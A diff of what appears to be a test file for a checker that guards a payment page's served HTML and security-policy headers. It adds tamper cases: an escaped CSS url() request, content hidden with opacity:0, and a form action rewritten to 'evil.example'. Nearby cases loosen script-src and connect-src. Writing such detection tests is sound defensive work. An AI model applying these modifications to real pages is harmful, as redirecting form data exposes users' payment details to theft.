@@ -90,6 +90,19 @@ BUTTON = scripts.NAMED["athmovil_base.js"]
             "not on the list",
         ),
         ("/phone", lambda body: body.replace(b"</style>", b"input{background:red}</style>"), bytes, "security-policy"),
+        (
+            "/phone",
+            lambda body: body.replace(b"</style>", b"a{background:u\\72l(/x)}</style>"),
+            bytes,
+            "style is another",
+        ),
+        ("/phone", lambda body: body.replace(b"<style>", b"<style>main{opacity:0}"), bytes, "style is another"),
+        (
+            "/phone",
+            lambda body: body.replace(b'action="/phone', b'action="//evil.example/phone'),
+            bytes,
+            "sent elsewhere",
+        ),
         ("/phone", bytes, lambda value: value.replace(b"script-src ", b"script-src 'self' "), "security-policy"),
         ("/phone", bytes, lambda value: value.replace(b"connect-src 'self'", b"connect-src *"), "security-policy"),
         (
